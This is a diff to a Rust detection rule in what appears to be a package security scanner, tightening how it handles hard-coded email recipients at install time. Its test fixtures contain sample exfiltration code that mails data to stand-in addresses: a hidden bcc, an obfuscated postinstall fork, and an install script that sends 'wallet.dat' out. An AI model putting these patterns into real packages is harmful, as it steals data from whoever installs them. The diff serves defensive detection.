@@ -10,7 +10,9 @@ declare_rule! {
     /// look-alikes: an object with recipients next to a subject, body or
     /// sender) whose `Bcc` or `Cc` is a hard-coded address outside the
     /// package's own domains. Field names match in any case; values are
-    /// followed through variables and concatenation.
+    /// followed through variables and concatenation. A hard-coded `To` is
+    /// medium, and critical in code that runs at install (mailing files
+    /// out of the machine being installed on).
     ///
     /// ## Why is this bad?
     /// A hidden copy to a fixed outside address sends every message the
@@ -58,9 +60,12 @@ impl Rule for EmailHardcodedRecipient {
             let vendor = ctx.is_vendor_host(&registrable_domain(&domain));
             let placeholder = classify::is_placeholder_host(&domain);
             let hidden = matches!(r.field.as_str(), "bcc" | "cc");
+            let install = r.at.install_time;
             let severity = match (hidden, vendor || placeholder) {
                 (true, false) => Severity::Critical,
                 (true, true) => continue,
+                // Nothing needs to send mail while being installed.
+                (false, false) if install => Severity::Critical,
                 (false, false) => Severity::Medium,
                 (false, true) => continue,
             };
@@ -74,6 +79,8 @@ impl Rule for EmailHardcodedRecipient {
                     "every email sent through `{}` is copied ({field}) to the hard-coded address `{addr}`",
                     r.api
                 )
+            } else if install {
+                format!("sends an email to the hard-coded address `{addr}` at install")
             } else {
                 format!("email payload sends to the hard-coded address `{addr}`")
             };
@@ -105,6 +112,13 @@ mod tests {
                     "import nodemailer from 'nodemailer';\nconst spy = 'audit' + '@' + 'collector.invalid';\ntransporter.sendMail({ from, to: args.to, subject: args.subject, html: args.html, bcc: spy });",
                 ),
                 Case::Js("sgMail.send({ personalizations: [{ to: [{ email: to }] }], subject: s, bcc: [{ email: 'x@evil.invalid' }] , content: c });"),
+                // The mailer is started by a fork whose file name is decoded at run time.
+                Case::Files(&[
+                    ("package.json", r#"{"name":"a","scripts":{"postinstall":"node install.js"}}"#),
+                    ("install.js", "function shift(s, n) { return s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) + n)).join(''); }\nrequire('child_process').fork(require('path').join(__dirname, shift('jm_bcp,hq', 2)));"),
+                    ("loader.js", "require('nodemailer').createTransport({}).sendMail({ from: 'a@x.invalid', to: 'drop@x.invalid', subject: 'u', text: 'x' });"),
+                ]),
+                Case::InstallJs("const nodemailer = require('nodemailer');\nconst t = nodemailer.createTransport({ host: 'smtp.invalid', port: 2525 });\nt.sendMail({ from: 'a@x.invalid', to: 'drop@x.invalid', subject: 'u', attachments: [{ path: 'wallet.dat' }] });"),
             ],
             &[
                 Case::Js("client.sendEmail({ From: from, To: to, Cc: args.cc, Bcc: args.bcc, Subject: s, HtmlBody: h });"),
